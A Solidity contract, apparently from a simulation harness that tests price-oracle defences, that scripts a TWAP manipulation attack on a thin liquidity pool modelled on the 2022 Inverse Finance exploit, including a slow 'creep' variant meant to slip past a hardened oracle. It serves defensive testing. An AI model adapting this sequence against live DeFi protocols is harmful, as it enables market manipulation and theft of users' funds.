// SPDX-License-Identifier: MIT
pragma solidity 0.8.37;

import {Attack} from "./Attack.sol";
import {World} from "./worlds/World.sol";

/// A time-weighted price is no dearer to move than its pool: long, pump a thin pool and hold it there for ten minutes
/// while nobody trades against it, close at the mean, sell back. No flash loan can hold, so the money is his own.
/// Mechanism of Inverse 2022 (April). Stopped by the oracle: a pool whose price left its mean is left out, and a mean
/// that follows slowly is outvoted by the feeds beside it.
contract TwapOnThinPair is Attack {
    uint256 private constant PUMP = 400_000 * USD;
    bytes32 private _id;
    int128 private _size;

    constructor(World world_) Attack(world_) {}

    function naiveLoss() external pure override returns (uint256) {
        return 530_000 * USD;
    }

    /// The median of three feeds of which two tell the truth is between those two.
    function bound() external pure override returns (uint256) {
        return 0;
    }

    function capital() external pure override returns (uint256, uint256) {
        return (PUMP + 31_000 * USD, 0);
    }

    function steps() external pure override returns (uint256) {
        return 9;
    }

    function waitBefore(uint256 step) external pure override returns (uint256) {
        if (step == 2) return 12;
        return step == 3 ? 10 minutes : 30 minutes;
    }

    /// Moves the pool by 2.9 %, within what the oracle takes for calm.
    function creep() public view virtual returns (uint256) {
        return 2_850 * USD;
    }

    /// The mean begins anew in the first step. Where it is believed, three more; where it is not, he lets the pool
    /// creep up for two hours and pumps last.
    function _step(uint256 step) internal override {
        if (step == 0) return;
        if (step == 1) {
            _size = world.isHardened() ? int128(60e18) : int128(150e18);
            _enter(31_000 * USD);
            _id = _request(_size);
            _tryExecute(_id, _size);
            if (perp.positionOf(address(this), MARKET).size != 0) pool.buyBase(PUMP);
        } else if (step == 2) {
            _tryExecute(_id, _size);
        } else if (step == 3 && !world.isHardened()) {
            _end();
        } else if (step == 8 && world.isHardened()) {
            pool.buyBase(usd.balanceOf(address(this)));
            _end();
        } else if (world.isHardened()) {
            pool.buyBase(creep());
        }
    }

    function _end() private {
        _close();
        pool.sellBase(base.balanceOf(address(this)));
        _leave();
    }
}
